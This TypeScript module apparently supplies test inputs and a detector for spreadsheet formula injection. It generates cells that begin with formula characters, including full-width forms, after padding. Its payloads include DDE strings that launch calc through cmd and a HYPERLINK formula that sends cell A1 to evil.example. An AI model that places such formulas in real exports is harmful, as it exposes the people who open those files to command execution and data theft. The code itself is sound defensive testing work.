/** What a spreadsheet may take for the start of a formula, in any width. */
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/** What may stand before it, and is passed over. */
const BEFORE = ['', ' ', '\t', '\r', '\n', '\u0000', '\u200b', '\ufeff', '"', "'", 'Acme;', 'Acme\t', 'Acme\n', 'Acme,"'];

const DEEDS = ['1+1', 'cmd|"/C calc"!A0', 'HYPERLINK("https://evil.example?x="&A1,"Click")', "SUM(1+1)*cmd|' /C calc'!A0"];

/** Texts that one spreadsheet or another would run when it opens them: U+0000 is left out where a text is kept, since Postgres takes none. */
export const FORMULAS: string[] = BEFORE.flatMap((before, n) =>
  STARTS.map((start, m) => `${before}${start}${DEEDS[(n + m) % DEEDS.length]}`),
);

/** Whether a cell, or any part of it behind a separator at which a spreadsheet may split, would be run. */
export const runs = (cell: string): boolean => cell.split(/[,;\t\r\n]/).some((part) => /^[\s"\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u.test(part));
